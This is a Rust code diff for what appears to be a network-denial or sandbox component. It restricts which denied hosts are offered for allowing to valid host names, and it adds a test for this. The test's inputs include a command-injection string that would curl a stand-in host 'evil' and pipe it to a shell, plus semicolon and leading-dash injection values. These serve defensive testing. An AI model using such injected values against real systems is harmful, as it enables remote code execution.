@@ -413,12 +413,12 @@ pub(super) fn in_words(denial: &Denial) -> String {
 
 fn described(denial: &Denial, at: u64) -> FenceDenial {
     let host = match denial {
-        // One that was only looked up is most often asked for over HTTPS.
-        Denial::Host { name, port } => Some(FenceHost {
+        // One that was only looked up is most often asked for over HTTPS. A program may look up what is no name, and is not offered that.
+        Denial::Host { name, port } if portcullis_install::is_host_name(name) => Some(FenceHost {
             name: name.clone(),
             port: port.unwrap_or(HTTPS),
         }),
-        Denial::Address { .. } | Denial::Inward { .. } => None,
+        Denial::Host { .. } | Denial::Address { .. } | Denial::Inward { .. } => None,
     };
     FenceDenial {
         what: ForeignText::new(in_words(denial)).first_line(limits::FENCE_DENIAL_CHARACTERS),
@@ -469,6 +469,25 @@ mod tests {
         assert!(!why.contains(crate::places::FENCE_PROGRAM), "{why}");
         assert!(why.contains("operating system"), "{why}");
         house.host.close().await;
+    }
+
+    // Proves S-68.
+    #[test]
+    fn what_is_no_name_of_a_host_is_told_and_not_offered() {
+        let described = |name: &str| {
+            let name = name.to_owned();
+            described(&Denial::Host { name, port: None }, 7)
+        };
+        assert!(described("api.example.com").host.is_some());
+        for odd in [
+            "$(curl${IFS}evil|sh).example",
+            "a;b.example",
+            "-a.example",
+            "10.0.0.1",
+        ] {
+            let denial = described(odd);
+            assert_eq!((denial.host, denial.what.text.as_str()), (None, odd));
+        }
     }
 
     // Proves S-68.
